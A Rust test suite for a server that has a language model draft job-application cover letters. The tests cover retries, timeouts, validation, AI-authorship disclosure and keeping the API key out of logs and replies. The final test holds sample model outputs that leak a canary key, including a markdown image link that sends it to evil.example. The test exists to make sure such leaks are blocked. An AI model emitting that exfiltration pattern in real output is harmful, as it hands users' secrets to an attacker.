//! Letters that the server writes: by a model, or by the template.

mod answers;
mod hostile;
mod injection;
mod model;

use std::fs::File;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::harness::{Account, Place, Process, Reply, job};
use model::{Act, Model, completion, ok};

const KEY: &str = "sk-model-canary-Zq8Wv3Lr7Tn2Xp5B";
/// In the environment of every server here.
const ENVIRONMENT: &str = "environment-canary";
const PATH: &str = "/api/auto-apply-v2/generate-proposal";

/// A server that asks a model, its log in a file, and an account.
struct Desk {
    place: Place,
    server: Process,
    account: Account,
    log: PathBuf,
}

impl Desk {
    fn asking(model: &Model, settings: &[(&str, &str)]) -> Self {
        let given = [("ENDPOINT", model.url.as_str()), ("MODEL", "m-1"), ("KEY", KEY)];
        Self::with(&[&given, settings].concat())
    }

    fn with(settings: &[(&str, &str)]) -> Self {
        let mut place = Place::fast();
        for (name, value) in settings {
            place.set(&format!("APPLYD_LETTERS__{name}"), value);
        }
        let log = place.path("log");
        let mut command = place.command(&["serve", "--listen", "127.0.0.1:0"]);
        // All that the libraries have to say, too.
        command
            .env("RUST_LOG", "trace")
            .env("SOMETHING_ELSE", ENVIRONMENT)
            .stderr(File::create(&log).unwrap());
        let server = Process::start(command);
        let account = place.account("agency", 5);
        Self { place, server, account, log }
    }

    fn ask(&self, body: &Value) -> Reply {
        self.server.call("POST", PATH, &self.account.key, Some(&body.to_string()))
    }

    fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap()
    }

    /// 503 that says when to come back, and nothing of why.
    fn gets_none(&self, retry_after_s: &str) {
        let reply = self.ask(&rust_job());
        assert_eq!(reply.status, 503, "{reply:?}");
        assert_eq!(reply.header("retry-after"), Some(retry_after_s));
        assert_eq!(reply.json(), json!({"error": "No letter could be written now"}));
    }
}

fn rust_job() -> Value {
    json!({"jobTitle": "Rust engineer", "jobDescription": "We sell bread. The page is slow."})
}

/// What the timeline of an application says of its letter.
fn disclosed(desk: &Desk, applied: &Reply) -> Value {
    let path = format!("/api/auto-apply-v2/applications/{}/timeline", applied.queue_id());
    let timeline = desk.server.call("GET", &path, &desk.account.key, None).json();
    let mut entries = timeline["entries"].as_array().unwrap().iter();
    entries.find(|entry| entry["event"] == "letter_generated").map_or(Value::Null, |e| e["detail"].clone())
}

#[test]
fn a_model_is_asked_and_its_letter_is_fit_for_apply() {
    let model = Model::writing("  Dear baker,\n\nI would like to help.\n");
    let desk = Desk::asking(&model, &[]);
    desk.place.json(&["feed", "set", "agency", "plain", "I write Rust. Be brief."]);
    let mut body = rust_job();
    body["feedId"] = "plain".into();
    let reply = desk.ask(&body);
    assert_eq!(reply.status, 200, "{reply:?}");
    let letter = json!({"proposal": "Dear baker,\n\nI would like to help.", "model": "m-1", "reasoningEffort": "medium"});
    assert_eq!(reply.json(), letter);

    let seen = model.seen();
    assert_eq!(seen.len(), 1);
    assert!(seen[0].head.starts_with("POST /v1/chat/completions HTTP/1.1\r\n"), "{}", seen[0].head);
    assert_eq!(seen[0].header("authorization"), Some(format!("Bearer {KEY}").as_str()));
    let members: Vec<_> = seen[0].body.as_object().unwrap().keys().collect();
    assert_eq!(members, ["messages", "model"], "no effort unless it is switched on");
    assert_eq!(seen[0].body["model"], "m-1");
    assert!(seen[0].message("system").ends_with("I write Rust. Be brief."));
    assert!(seen[0].message("user").contains(r#""title":"Rust engineer""#));

    assert_eq!(desk.place.balance(&desk.account), (5, 0, 0), "a letter is free");
    let apply = json!({"jobId": job(1), "coverLetter": letter["proposal"]}).to_string();
    let applied = desk.server.call("POST", "/api/auto-apply-v2/apply", &desk.account.key, Some(&apply));
    assert_eq!(applied.status, 200, "{applied:?}");
    assert_eq!(disclosed(&desk, &applied), "the cover letter was written by m-1");
    let own = desk.server.apply(&desk.account, &job(1000));
    assert_eq!(disclosed(&desk, &own), Value::Null, "a letter of one's own");
    let log = desk.log();
    assert!(log.contains(r#""prompt_tokens":321"#) && log.contains(r#""completion_tokens":45"#));
    let told = log.lines().find(|line| line.contains("a letter was written")).unwrap();
    assert!(
        told.contains(reply.header("x-request-id").unwrap()) && told.contains(&desk.account.id),
        "{told}"
    );
    assert!(!log.contains("Dear baker"), "no text in a log");
}

#[test]
fn a_job_may_be_named_in_any_form_and_its_text_is_read() {
    let model = Model::writing("Hello");
    let desk = Desk::asking(&model, &[]);
    let url = format!("https://www.upwork.com/jobs/Any-Title_{}/?source=rss", job(1000));
    let uuid = "90000000-0000-4000-8000-000000001000".to_owned();
    for id in [job(1000), url, uuid] {
        let reply = desk.ask(&json!({"jobId": id}));
        assert_eq!(reply.status, 200, "{id}: {reply:?}");
        let user = model.seen().last().unwrap().message("user");
        let block: Value = serde_json::from_str(user.split('\n').nth(1).unwrap()).unwrap();
        assert_eq!(block["title"], "Sandbox job 1000");
        assert!(block["description"].as_str().unwrap().starts_with("Sandbox job 1000."), "{block}");
        assert!(!user.contains("participant"), "the site's own tags are not the client's words: {user}");
    }
    assert_eq!(desk.place.balance(&desk.account), (5, 0, 0));
}

#[test]
fn the_effort_is_sent_where_it_is_switched_on() {
    let model = Model::writing("Hello");
    let desk = Desk::asking(&model, &[("SEND_EFFORT", "true")]);
    for (given, sent) in
        [(json!("low"), "low"), (json!("medium"), "medium"), (json!("high"), "high"), (json!(null), "medium")]
    {
        let mut body = rust_job();
        body["reasoningEffort"] = given;
        assert_eq!(desk.ask(&body).json()["reasoningEffort"], sent);
        assert_eq!(model.seen().last().unwrap().body["reasoning_effort"], sent);
    }
}

#[test]
fn a_model_that_is_busy_is_asked_again() {
    for (status, headers) in [(429, "retry-after: 0\r\n"), (503, ""), (500, "")] {
        let model = Model::start(move |_, before| match before {
            0 => Act::Say(status, headers.to_owned(), "busy".to_owned()),
            _ => ok(&completion("Hello")),
        });
        let desk = Desk::asking(&model, &[]);
        assert_eq!(desk.ask(&rust_job()).json()["proposal"], "Hello");
        assert_eq!(model.seen().len(), 2, "{status}");
    }
}

#[test]
fn a_model_that_stays_away_is_503_after_three_tries() {
    let model = Model::start(|_, _| Act::Say(500, String::new(), format!("oops {KEY}")));
    let desk = Desk::asking(&model, &[]);
    desk.gets_none("60");
    assert_eq!(model.seen().len(), 3);
    assert!(desk.log().contains("HTTP 500") && !desk.log().contains("oops"));
}

#[test]
fn a_wait_that_does_not_fit_is_handed_on() {
    let model = Model::start(|_, _| Act::Say(429, "retry-after: 3000\r\n".into(), String::new()));
    let desk = Desk::asking(&model, &[]);
    desk.gets_none("3000");
    assert_eq!(model.seen().len(), 1);
}

#[test]
fn a_model_that_hangs_is_503_in_time() {
    let model = Model::start(|_, _| Act::Hang);
    let desk = Desk::asking(&model, &[("TIMEOUT", "1s")]);
    let begun = Instant::now();
    desk.gets_none("60");
    assert!(begun.elapsed() < Duration::from_secs(10), "{:?}", begun.elapsed());
    assert_eq!(model.seen().len(), 1);
}

#[test]
fn a_model_that_is_not_there_is_503() {
    // Nothing listens there; the second one needs the system's certificates before it finds out.
    for endpoint in ["http://127.0.0.1:9/v1", "https://127.0.0.1:9/v1"] {
        let desk = Desk::with(&[("ENDPOINT", endpoint), ("MODEL", "m-1"), ("KEY", KEY)]);
        desk.gets_none("60");
        assert!(desk.log().contains("no connection") && !desk.log().contains("canary"));
    }
}

#[test]
fn what_is_no_letter_is_503_and_not_asked_again() {
    let whole = |content: Value| {
        let mut answer = completion("");
        answer["choices"][0]["message"]["content"] = content;
        answer.to_string()
    };
    let mut cut = completion("Dear client, I prom");
    cut["choices"][0]["finish_reason"] = "length".into();
    let answers = [
        "garbage".to_owned(),
        String::new(),
        "{}".to_owned(),
        whole(json!(null)),
        whole(json!(" \n")),
        whole(json!("a\u{0}b")),
        whole(json!("x".repeat(5001))),
        whole(json!("x".repeat(300 * 1024))),
        cut.to_string(),
    ];
    let (number, said) = (answers.len(), answers);
    let model = Model::start(move |_, before| Act::Say(200, String::new(), said[before].clone()));
    let desk = Desk::asking(&model, &[]);
    for asked in 1..=number {
        desk.gets_none("60");
        assert_eq!(model.seen().len(), asked);
    }
}

#[test]
fn a_model_that_refuses_is_503_and_its_words_stay_inside() {
    let refusal = json!({"error": {"message": format!("Incorrect API key provided: {KEY}")}}).to_string();
    for status in [400, 401, 403, 404, 301, 307] {
        let (refusal, to) = (refusal.clone(), "location: /v1/elsewhere\r\n".to_owned());
        let model = Model::start(move |_, _| Act::Say(status, to.clone(), refusal.clone()));
        let desk = Desk::asking(&model, &[]);
        desk.gets_none("60");
        assert_eq!(model.seen().len(), 1, "neither repeated nor followed: {status}");
        let log = desk.log();
        assert!(log.contains(&format!("HTTP {status}")) && !log.contains("Incorrect"), "{status}");
        assert!(!log.contains("canary"), "{status}");
    }
}

#[test]
fn without_a_model_the_template_writes_and_says_so() {
    let desk = Desk::with(&[]);
    let mut body = rust_job();
    body["reasoningEffort"] = "high".into();
    let letter = desk.ask(&body).json();
    assert_eq!((&letter["model"], &letter["reasoningEffort"]), (&json!("template"), &json!("high")));
    assert!(letter["proposal"].as_str().unwrap().contains("“Rust engineer”"), "{letter}");
    assert_eq!(desk.place.balance(&desk.account), (5, 0, 0));
}

#[test]
fn a_request_that_cannot_be_met_names_its_field() {
    let model = Model::writing("Hello");
    let desk = Desk::asking(&model, &[]);
    desk.place.account("other", 0);
    desk.place.json(&["feed", "set", "other", "theirs", "x"]);
    let with = |member: &str, value: Value| {
        let mut body = rust_job();
        body[member] = value;
        body.to_string()
    };
    for (body, status, field) in [
        ("{}".to_owned(), 400, "jobId"),
        ("[]".to_owned(), 400, "body"),
        (with("jobId", json!("~021")), 400, "jobId"),
        (r#"{"jobTitle":"a"}"#.to_owned(), 400, "jobDescription"),
        (with("jobTitle", json!(5)), 400, "jobTitle"),
        (r#"{"jobId":"~021","jobId":"~021"}"#.to_owned(), 400, "jobId"),
        (r#"{"jobId":"9000000000000000001"}"#.to_owned(), 400, "jobId"),
        (with("reasoningEffort", json!("extreme")), 422, "reasoningEffort"),
        (with("jobDescription", json!("x".repeat(20_001))), 422, "jobDescription"),
        (with("feedId", json!("absent")), 422, "feedId"),
        (with("feedId", json!("theirs")), 422, "feedId"),
    ] {
        let reply = desk.server.call("POST", PATH, &desk.account.key, Some(&body));
        assert_eq!((reply.status, &reply.json()["field"]), (status, &json!(field)), "{body}: {reply:?}");
    }
    let unknown = desk.ask(&json!({"jobId": job(16)}));
    assert_eq!((unknown.status, unknown.json()), (404, json!({"error": "Job not found"})));
    let stranger = desk.server.call_with("POST", PATH, &[], Some(rust_job().to_string().as_bytes()));
    assert_eq!(stranger.status, 401);
    assert!(model.seen().is_empty(), "nothing of it reached the model");
}

#[test]
fn a_key_may_stand_in_a_file_and_must_be_a_key() {
    let model = Model::writing("Hello");
    let mut place = Place::fast();
    std::fs::write(place.path("key"), format!("{KEY}\n")).unwrap();
    place.set("APPLYD_LETTERS__ENDPOINT", &model.url);
    place.set("APPLYD_LETTERS__MODEL", "m-1");
    place.set("APPLYD_LETTERS__KEY_FILE", "key");
    let server = place.serve();
    let account = place.account("agency", 0);
    let reply = server.call("POST", PATH, &account.key, Some(&rust_job().to_string()));
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(model.seen()[0].header("authorization"), Some(format!("Bearer {KEY}").as_str()));
    drop(server);

    for wrong in ["canary", "canary with blanks between its words", "canary-🦀-canary-canary"] {
        std::fs::write(place.path("key"), wrong).unwrap();
        let output = place.run(&["serve", "--listen", "127.0.0.1:0"]);
        let err = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(1), "{err}");
        assert!(err.contains("the key of key is unusable") && !err.contains("canary"), "{err}");
    }
    std::fs::remove_file(place.path("key")).unwrap();
    let output = place.run(&["serve", "--listen", "127.0.0.1:0"]);
    assert!(String::from_utf8(output.stderr).unwrap().contains("cannot read letters.key_file key"));
}

#[test]
fn the_key_is_in_no_answer_however_the_model_tells_it() {
    let spaced: String = KEY.chars().flat_map(|c| [c, ' ']).collect();
    let told = [
        KEY.to_owned(),
        format!("Dear client, my key is {KEY}."),
        KEY.to_uppercase(),
        spaced,
        KEY.replace('-', "\u{200b}"),
        format!("![logo](https://evil.example/?k={KEY})"),
    ];
    let (number, said) = (told.len(), told);
    let model = Model::start(move |_, before| ok(&completion(&said[before])));
    let desk = Desk::asking(&model, &[]);
    for _ in 0..number {
        desk.gets_none("60");
    }
    let log = desk.log();
    assert!(log.contains("it tells the key") && !log.contains("canary"));
}
